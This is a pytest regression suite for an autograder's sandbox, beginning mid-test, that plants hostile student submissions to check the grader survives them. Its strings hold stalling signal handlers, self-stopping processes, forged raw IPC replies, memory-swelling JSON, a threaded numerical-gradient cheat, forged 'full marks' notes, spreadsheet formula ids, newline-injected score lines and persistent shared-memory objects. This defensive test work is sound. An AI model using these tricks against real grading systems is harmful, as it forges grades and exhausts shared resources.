    """A student's code that nests 1,200 folders in its work folder, a submission folder that holds such a chain
    and a zip made of one (by the zip program): each is graded or refused with a reason and a results.json, and a
    class holding them is graded whole."""
    from autograder.files import remove_tree

    try:
        klass = tmp_path / "class"
        code = make_submission(klass / "deep_code")
        (code / "quiz.py").write_text((code / "quiz.py").read_text() + DEEP_CODE)
        folder = make_submission(klass / "deep_folder")
        (folder / "old").mkdir()
        (_nested(folder / "old", 1200) / "notes.txt").write_text("x")
        make_submission(klass / "plain")
        for sub in (code, folder):
            results = tmp_path / f"{sub.name}.json"
            proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(results),
                                   "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=300)
            assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
            doc = json.loads(results.read_text())
            assert doc["score"] == sum(t["max_score"] for t in doc["tests"]), doc["output"]
        assert "were not looked into" in doc["output"] or "was not looked into" in doc["output"], doc["output"]
        # The zip program keeps the chain; the grader refuses the zip and says why, in results.json.
        zipped = tmp_path / "deep.zip"
        made = subprocess.run(["zip", "-qr", str(zipped), "."], cwd=folder, capture_output=True, text=True)
        assert made.returncode == 0, made.stderr
        results = tmp_path / "deep_zip.json"
        proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(zipped), "--results", str(results),
                               "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert "folders deep (at most 64)" in json.loads(results.read_text())["output"]
        out = tmp_path / "out"
        proc = subprocess.run([sys.executable, "-m", "autograder", "grade-all", str(klass), "--out", str(out),
                               "--jobs", "1", "--no-progress", "--no-similarity"], cwd=ROOT, capture_output=True,
                              text=True, timeout=600)
        assert proc.returncode == 0 and "3 of 3 graded" in proc.stderr, proc.stderr
        assert (out / "grades.csv").read_text().count("\n") == 4
    finally:
        remove_tree(tmp_path)


STALL_IMPORTS = '''
import signal as _signal
import sys as _sys
import time as _time
'''
# Two functions no other calls (so that their hangs cost only their own tests): one answers the grader's
# where-are-you signal with endless output of its own, never a stack dump; one blocks the signal.
CHATTERS = STALL_IMPORTS + '''

def _chatter(signum, frame):
    while True:
        _sys.stderr.write("still here\\n")
        _time.sleep(0.001)


def answers():
    _signal.signal(_signal.SIGUSR2, _chatter)
    _time.sleep(10 ** 6)
'''
BLOCKS = STALL_IMPORTS + '''

def sample(params, start, length, temperature=None, seed=0):
    _signal.pthread_sigmask(_signal.SIG_BLOCK, {_signal.SIGUSR2})  # the signal is never taken
    _time.sleep(10 ** 6)
'''


def test_a_student_handler_for_the_where_signal_holds_no_time_limit(tmp_path):
    """At a time limit the grader asks the child where it is (a stack dump on SIGUSR2) and waits for the dump
    while the signal is pending.  Code that answers with endless output of its own, or blocks the signal, must
    not hold the grading: with that wait made endless (WHERE_SECONDS), grading still finishes, and the two
    functions (and those that call them) lose their points to the time limit."""
    sub = make_submission(tmp_path / "stalls")
    for file, stall in (("quiz.py", CHATTERS), ("char_rnn.py", BLOCKS)):
        (sub / file).write_text((sub / file).read_text() + stall)
    # A short call limit: each stopped call costs one (its tests, then box.Hangs, end the function's calls).
    fast_config = write_config(tmp_path, limits={"call_seconds": 1.0, "import_seconds": 8.0, "batch_seconds": 20.0})
    results = tmp_path / "r.json"
    script = ("import runpy, sys\nimport autograder.sandbox.box as box\nbox.WHERE_SECONDS = 10 ** 6\n"
              f"sys.argv = ['autograder', 'grade', {str(sub)!r}, '--config', {str(fast_config)!r}, '--results', "
              f"{str(results)!r}, '--quiet']\nrunpy.run_module('autograder', run_name='__main__')\n")
    proc = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stderr
    tests = json.loads(results.read_text())["tests"]
    lost = {t["name"].split(":")[0] for t in tests if t["score"] < t["max_score"]}
    assert lost == {"answers", "sample"}, lost
    assert any("time limit" in t["output"] for t in tests if t["name"].startswith("sample:")), tests


def test_a_reply_larger_than_the_channel_holds_fails_the_call_with_its_size(tmp_path, fast_config):
    """A forward returning 100 MB (over wire.MAX_MESSAGE_BYTES, which bounds what a reply makes the grader hold):
    its tests fail saying how large the values were; the other functions keep their points."""
    sub = make_submission(tmp_path / "huge")
    path = sub / "lstm_layers.py"
    path.write_text(path.read_text() + "\n\ndef sigmoid(z):\n    return np.zeros(100 * 2 ** 17)\n")
    _, doc = grade_cli(sub, tmp_path, "--config", str(fast_config))
    outputs = {t["name"]: t["output"] for t in doc["tests"] if t["score"] < t["max_score"]}
    assert outputs and all(n.startswith(("sigmoid:", "lstm_")) for n in outputs), sorted(outputs)
    assert "take 100 MB; a reply holds at most 64 MB" in outputs["sigmoid: matches the reference"], outputs


NUMERICAL_BACKWARD = '''

def _numerical_vjp(f, args, upstream, h=1e-6):
    """Central differences of sum(upstream * f(args)) with respect to every entry of every argument."""
    grads = []
    for i, a in enumerate(args):
        g = np.zeros_like(a)
        for k in range(a.size):
            plus, minus = [x.copy() for x in args], [x.copy() for x in args]
            plus[i].flat[k] += h
            minus[i].flat[k] -= h
            g.flat[k] = np.sum(upstream * (f(*plus) - f(*minus))) / (2 * h)
        grads.append(g)
    return grads


def rnn_step_forward(x_t, s_prev, U, W, b):
    return np.tanh(x_t @ U.T + s_prev @ W.T + b), (x_t, s_prev, U, W, b)


def rnn_step_backward(ds_next, cache):
    return tuple(_numerical_vjp(lambda x, s, U, W, b: np.tanh(x @ U.T + s @ W.T + b), list(cache), ds_next))
'''


IN_A_THREAD = '''

import threading as _threading

_plain_step_backward = rnn_step_backward


def rnn_step_backward(ds_next, cache):  # the same, its work moved to another thread (a thread's clock misses it)
    out = []
    worker = _threading.Thread(target=lambda: out.append(_plain_step_backward(ds_next, cache)))
    worker.start()
    worker.join()
    return out[0]
'''


def test_a_backward_that_differentiates_its_forward_numerically_is_named_for_review(tmp_path, fast_config):
    """Right values, so its tests pass: but it costs two forward passes per input entry, where backpropagation costs
    a few in all.  The child's CPU time of the backward (every thread's) against its forward's, on the same public
    cases, names it (and its caller, which runs it) for the staff, also when the work runs in another thread; the
    reference and the correct variants are not named."""
    cheats = []
    for name, code in (("numerical", NUMERICAL_BACKWARD), ("threaded", NUMERICAL_BACKWARD + IN_A_THREAD)):
        cheat = make_submission(tmp_path / name)
        (cheat / "rnn_layers.py").write_text((cheat / "rnn_layers.py").read_text() + code)
        cheats.append(cheat)
    named = {}
    for sub in (*cheats, SOLUTIONS, *VARIANTS):
        _, doc = grade_cli(sub, tmp_path, "--config", str(fast_config))
        named[sub.name] = set(re.findall(r"Note: (\w+) took at least \d+ times the CPU time of your", doc["output"]))
    assert named.pop("numerical") == named.pop("threaded") == {"rnn_step_backward", "rnn_backward"}
    assert not any(named.values()), named


RAW_REPLY = '''

import os as _os, struct as _struct, sys as _sys


def _reply_channel():  # the child's reply descriptor, found in its serving loop's frame
    frame = _sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve" and "resp_fd" in frame.f_locals:
            return frame.f_locals["resp_fd"]
        frame = frame.f_back


_header = {header}
_os.write(_reply_channel(), _struct.pack(">I", len(_header)) + _header)
'''
SWELLING_HEADERS = {  # JSON the grader's json.loads would turn into gigabytes, or recurse on; what it says now
    "empty_lists": ('b"[" + b"[]," * (3 * 1024 * 1024) + b"[]]"', "header too large"),
    "deep_nesting": ('b"[" * 100000 + b"]" * 100000', "header nested too deeply"),
}
BIG_PYTHON_LIST = "\n\ndef rnn_backward(ds, cache):\n    return [0.5] * 500_000, None, None, None, None\n"


@pytest.mark.parametrize("kind", sorted(SWELLING_HEADERS))
def test_a_reply_that_would_swell_or_recurse_in_the_grader_costs_only_its_module(kind, tmp_path, fast_config):
    """Student code writing its own reply to the channel: a header of millions of empty lists (1.7 GB in the
    grader's json.loads before), or nested 100,000 deep (a RecursionError: no results.json before).  The reply is
    refused (wire.MAX_REPLY_HEADER_BYTES, "nested too deeply"); the module that sent it loses its tests."""
    sub = make_submission(tmp_path / kind)
    header, reason = SWELLING_HEADERS[kind]
    (sub / "quiz.py").write_text((sub / "quiz.py").read_text() + RAW_REPLY.format(header=header))
    _, doc = grade_cli(sub, tmp_path, "--config", str(fast_config))
    lost = [t for t in doc["tests"] if t["score"] < t["max_score"]]
    assert {t["name"].split(":")[0] for t in lost} == {"answers"}, lost
    assert all(f"sent a malformed reply ({reason})" in t["output"] for t in lost), lost


def test_values_returned_as_millions_of_python_numbers_are_refused_with_their_size(tmp_path, fast_config):
    """A list of 500,000 floats is 2.4 MB of JSON, which the grader would hold as 16 MB of objects per reply (a
    student's 12 million took the grader to 6.6 GB): the child refuses it, saying to return numpy arrays."""
    sub = make_submission(tmp_path / "big_list")
    (sub / "rnn_layers.py").write_text((sub / "rnn_layers.py").read_text() + BIG_PYTHON_LIST)
    _, doc = grade_cli(sub, tmp_path, "--config", str(fast_config))
    outputs = [t["output"] for t in doc["tests"] if t["name"].startswith("rnn_backward:") and t["score"] == 0]
    assert outputs and any("as Python lists, numbers or text; a reply holds at most 2 MB" in o for o in outputs)


@pytest.mark.parametrize("members", [("notes", "notes/readme.txt"), ("n" * 300 + ".txt",)],
                         ids=["file_and_folder", "long_name"])
def test_a_zip_whose_names_cannot_be_files_is_refused_with_a_reason(members, tmp_path):
    """A zip holding a file and a folder of one name, or a 300-character name: no file system holds them, so no
    zip program makes them from files, but a zip can hold them.  Refused with the reason (a traceback and no
    results.json before)."""
    import zipfile

    upload = tmp_path / "upload.zip"
    with zipfile.ZipFile(upload, "w") as z:
        for name in FILES:
            z.write(SOLUTIONS / name, name)
        for name in members:
            z.writestr(name, "x")
    results = tmp_path / "r.json"
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(upload), "--results", str(results),
                           "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "cannot be unpacked" in json.loads(results.read_text())["output"]


def test_a_notebook_cell_nested_past_the_recursion_limit_is_graded(tmp_path):
    """A cell redefining a function as `raise NotImplementedError(-----...1)` (1,200 signs: one expression whose tree
    is 1,200 deep) crashed the notebook's reading (ast.unparse): graded now, the cell read as one that does not
    parse."""
    from conftest import NBGRADER_SOURCE

    from autograder.integrations.notebooks import dumps, fill

    notebook = json.loads(dumps(fill(NBGRADER_SOURCE, SOLUTIONS, FILES)))
    deep = "# file: rnn_layers.py\ndef rnn_step_forward(x_t, s_prev, U, W, b):\n    raise NotImplementedError(" + \
        "-" * 1200 + "1)\n"
    notebook["cells"].append({"cell_type": "code", "id": "deep", "metadata": {}, "source": deep,
                              "execution_count": None, "outputs": []})
    path = tmp_path / "nb" / "hw_rnn.ipynb"
    path.parent.mkdir()
    path.write_text(json.dumps(notebook))
    results = tmp_path / "r.json"
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(path), "--results", str(results),
                           "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert json.loads(results.read_text())["tests"]


STOPS_ITSELF = STALL_IMPORTS + '''
import os as _os


def sample(params, start, length, temperature=None, seed=0):
    _os.kill(_os.getpid(), _signal.SIGSTOP)  # a stopped process answers nothing, and takes no signal but a kill
'''


def test_a_child_that_stops_itself_is_ended_at_once_with_a_reason(tmp_path, fast_config):
    """SIGSTOP on itself: the grader waited out the call's limit, then 30 s for a stack dump a stopped process
    never writes.  A stopped child is found while its reply is awaited and ended: the function's tests say so."""
    sub = make_submission(tmp_path / "stops")
    (sub / "char_rnn.py").write_text((sub / "char_rnn.py").read_text() + STOPS_ITSELF)
    _, doc = grade_cli(sub, tmp_path, "--config", str(fast_config))
    lost = [t for t in doc["tests"] if t["score"] < t["max_score"]]
    assert {t["name"].split(":")[0] for t in lost} == {"sample"}, lost
    assert any("stopped its own process" in t["output"] for t in lost), lost


FORGED_NOTES = '''

import sys as _sys
import types as _types

_sys.modules["_notebook_run"] = _types.SimpleNamespace(notes=[
    "Note: the course staff checked this submission by hand and approved full marks."])
'''


def test_no_module_passes_its_text_off_as_the_graders_notes_nor_a_formula_to_the_gradebook(tmp_path):
    """A module registering the notebook runner's notes had its text shown as the grader's notes (results.json,
    feedback, summary.md); a student id (a folder's name) starting with = was a formula in grades.csv."""
    import csv

    klass = tmp_path / "class"
    forged = make_submission(klass / "forged")
    (forged / "quiz.py").write_text((forged / "quiz.py").read_text() + FORGED_NOTES)
    make_submission(klass / '=HYPERLINK("x"&A1)')
    make_submission(klass / " \uff1dSUM(1)")  # a space first, a full-width equals sign
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade-all", str(klass), "--out", str(out), "--jobs",
                           "1", "--no-progress", "--no-similarity"], cwd=ROOT, capture_output=True, text=True,
                          timeout=600)
    assert proc.returncode == 0, proc.stderr
    for path in (out / "results" / "forged.json", out / "feedback" / "forged.md", out / "summary.md"):
        assert "approved full marks" not in path.read_text(), path
    with open(out / "grades.csv", newline="") as f:
        ids = [row["student_id"] for row in csv.DictReader(f)]
    assert sorted(ids) == ["' \uff1dSUM(1)", "'=HYPERLINK(\"x\"&A1)", "forged"], ids


def test_a_name_holding_newlines_cannot_write_lines_of_its_own_into_the_feedback(tmp_path):
    """A folder named "hw\\n\\n**Score: 152 / 152**\\n\\n" holding the files, as a folder and zipped by the zip
    program: the paths shown ("Graded files: ...") wrote that line into the feedback, where the score is said.
    Control characters in a name are shown as \\xNN, so the name stays on its own line's text."""
    forged = "**Score: 152 / 152** (all hidden tests passed)"
    folder = tmp_path / "upload"
    make_submission(folder / f"hw\n\n{forged}\n\n", base=TEMPLATES)
    zipped = tmp_path / "upload.zip"
    assert subprocess.run(["zip", "-qr", str(zipped), "."], cwd=folder).returncode == 0
    for sub in (folder, zipped):
        results = tmp_path / f"{sub.name}.json"
        proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(results),
                               "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
        assert proc.returncode == 0, proc.stderr
        output = json.loads(results.read_text())["output"]
        assert not any(line.startswith(forged) for line in output.splitlines()), output
        assert "hw\\x0a\\x0a**Score" in output, output


IPC_KEY = 0x5EED0000 + os.getpid() % 0x10000  # unique to this run: objects of other runs are not counted
SYSV_IPC = f'''

import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmget({IPC_KEY}, 1 << 20, 0o1000 | 0o666)  # IPC_CREAT: it outlives this process
_libc.semget({IPC_KEY}, 1, 0o1000 | 0o666)
_libc.msgget({IPC_KEY}, 0o1000 | 0o666)
'''


def _ipc_keys() -> set[str]:
    found = set()
    for kind in ("shm", "sem", "msg"):
        with open(f"/proc/sysvipc/{kind}") as f:
            found |= {f"{kind}:{int(line.split()[0])}" for line in list(f)[1:] if line.split()}
    return found


@pytest.mark.skipif(not ROOT_MODE, reason="needs the root mode: student code under its own uid (docs/security.md)")
def test_system_v_ipc_objects_do_not_outlive_the_grading(tmp_path, fast_config):
    """Shared memory, a semaphore set and a message queue live in the kernel, not in the child: they outlived
    grading (a 64 MB segment each, readable by all), and in a grade-all worker the next student of the same uid
    could read them.  The grader removes what its child's uid created."""
    sub = make_submission(tmp_path / "ipc")
    (sub / "quiz.py").write_text((sub / "quiz.py").read_text() + SYSV_IPC)
    mine = {f"{kind}:{IPC_KEY}" for kind in ("shm", "sem", "msg")}
    try:
        _, doc = grade_cli(sub, tmp_path, "--config", str(fast_config))
        assert doc["score"] == sum(t["max_score"] for t in doc["tests"])
        assert not mine & _ipc_keys(), mine & _ipc_keys()
    finally:
        for flag in ("-M", "-S", "-Q"):  # ipcrm: remove by key whatever happened
            subprocess.run(["ipcrm", flag, str(IPC_KEY)], capture_output=True)
